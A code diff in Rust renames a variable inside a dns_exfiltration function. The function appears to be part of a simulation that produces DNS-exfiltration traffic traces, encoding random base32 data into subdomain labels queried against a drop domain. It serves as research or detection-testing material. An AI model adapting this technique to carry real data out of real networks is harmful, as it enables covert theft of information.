@@ -253,8 +253,8 @@ fn dns_exfiltration(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
     for n in 0..count {
         const BASE32: &[u8; 32] = b"abcdefghijklmnopqrstuvwxyz234567";
         let random = &mut scene.random;
-        let mut piece = || (0..length).map(|_| char::from(BASE32[random.gen_range(0..32)])).collect::<String>();
-        let data = (0..labels).map(|_| piece()).collect::<Vec<_>>().join(".");
+        let mut chunk = || (0..length).map(|_| char::from(BASE32[random.gen_range(0..32)])).collect::<String>();
+        let data = (0..labels).map(|_| chunk()).collect::<Vec<_>>().join(".");
         let (id, name) = (scene.random.r#gen(), format!("{n}.{data}.{DROP}"));
         attacker.host.enter(|| dns::ask_from_here(server, id, &name, Kind::A))??;
         thread::sleep(Duration::from_secs(1) / rate);
